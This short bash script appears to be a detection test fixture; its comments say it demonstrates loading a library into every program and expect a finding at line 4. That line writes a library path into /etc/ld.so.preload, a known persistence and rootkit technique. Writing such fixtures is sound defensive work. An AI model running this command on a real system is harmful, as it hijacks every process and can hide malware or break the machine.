#!/bin/bash
# shows: a library into every program
# expect: access-opened at line 4
echo /usr/local/lib/x.so > /etc/ld.so.preload
